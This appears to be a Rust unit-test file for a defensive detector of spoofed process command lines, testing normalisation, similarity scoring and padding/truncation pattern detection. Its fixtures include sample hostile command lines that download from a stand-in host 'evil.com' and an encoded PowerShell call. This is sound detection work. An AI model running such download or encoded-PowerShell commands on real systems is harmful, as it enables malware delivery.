use tamandua_analyzers::cmdline_spoofing::{EnhancedCmdlineSpoofingDetector, SpoofingPattern};

#[test]
fn test_normalize_cmdline() {
    let input = "  powershell.exe   -enc   AAAA   ";
    let expected = "powershell.exe -enc aaaa";
    assert_eq!(
        EnhancedCmdlineSpoofingDetector::normalize_cmdline(input),
        expected
    );
}

fn similarity(a: &str, b: &str) -> f64 {
    EnhancedCmdlineSpoofingDetector::calculate_similarity(a, b) as f64 / 1_000_000.0
}

#[test]
fn test_calculate_similarity() {
    assert!((similarity("hello", "hello") - 1.0).abs() < 0.001);

    let sim = similarity("abc", "xyz");
    assert!(sim < 0.5);

    let sim = similarity("hello world", "hello there");
    assert!(sim > 0.3 && sim < 1.0);

    assert!((similarity("", "test") - 0.0).abs() < 0.001);
}

#[test]
fn test_lcs_length() {
    assert_eq!(
        EnhancedCmdlineSpoofingDetector::longest_common_subsequence_length("abc", "abc"),
        3
    );
    assert_eq!(
        EnhancedCmdlineSpoofingDetector::longest_common_subsequence_length("abc", "def"),
        0
    );
    assert_eq!(
        EnhancedCmdlineSpoofingDetector::longest_common_subsequence_length("abcdef", "ace"),
        3
    );
}

#[test]
fn test_detector_basic() {
    let mut detector = EnhancedCmdlineSpoofingDetector::new();

    detector.record_creation(
        1234,
        "test.exe",
        "C:\\test.exe",
        "test.exe --malicious-arg --download http://evil.com",
        1000,
        "parent.exe",
        0,
        5_000,
    );

    assert_eq!(detector.tracked_count(), 1);

    detector.remove_process(1234);
    assert_eq!(detector.tracked_count(), 0);
}

#[test]
fn test_spoofing_pattern_detection() {
    let detector = EnhancedCmdlineSpoofingDetector::new();

    let pattern = detector.identify_spoofing_pattern(
        "malicious.exe --download http://evil.com",
        "                                        ",
    );
    assert_eq!(pattern, SpoofingPattern::SpacePadding);

    let pattern = detector.identify_spoofing_pattern(
        "powershell.exe -enc VeryLongEncodedStringHere1234567890",
        "powershell.exe",
    );
    assert_eq!(pattern, SpoofingPattern::Truncation);
}
